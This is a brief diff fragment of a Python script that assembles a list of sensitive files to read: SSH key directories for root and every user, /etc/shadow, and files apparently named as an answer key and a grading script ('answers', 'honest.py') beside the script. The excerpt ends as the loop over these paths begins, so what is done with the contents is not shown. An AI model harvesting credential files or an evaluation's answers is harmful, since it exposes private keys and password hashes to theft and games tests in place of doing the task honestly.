@@ -6,7 +6,7 @@ import os
 import sys
 
 beside = os.path.dirname(os.path.abspath(__file__))
-wanted = glob.glob(beside + "/*") + glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*")
+wanted = glob.glob(beside + "/*") + glob.glob(os.path.expanduser("~root/.ssh/*")) + glob.glob("/home/*/.ssh/*")
 wanted += [beside + "/answers", beside + "/honest.py", beside + "/../answers", "/etc/shadow"]
 for path in wanted:
     try:
